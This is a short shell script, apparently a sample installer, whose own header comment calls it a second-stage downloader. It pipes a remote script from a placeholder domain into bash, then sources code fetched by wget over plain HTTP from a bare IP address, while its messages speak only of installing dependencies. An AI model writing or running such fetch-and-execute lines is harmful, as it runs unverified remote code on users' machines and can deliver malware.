# Downloads a second-stage installer with curl and pipes it straight into bash, then sources another stage via process substitution.
set -e

echo "Installing dependencies..."
curl -fsSL https://get.tool-installer.example.com/install.sh | bash -s -- --quiet

# extra plugins
source <(wget -qO- http://198.51.100.8/plugins.sh)

echo "Done."
